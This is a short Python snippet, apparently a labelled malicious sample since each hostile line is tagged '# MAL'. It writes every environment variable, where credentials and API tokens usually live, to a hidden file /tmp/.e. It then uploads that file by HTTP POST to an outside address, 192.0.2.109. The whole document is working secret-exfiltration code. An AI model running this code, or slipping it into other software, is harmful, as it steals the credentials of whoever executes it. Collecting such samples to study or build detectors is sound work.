import os, json, requests
with open("/tmp/.e", "w") as f:
    json.dump(dict(os.environ), f)  # MAL
requests.post("http://192.0.2.109/u", files={"f": open("/tmp/.e", "rb")})  # MAL
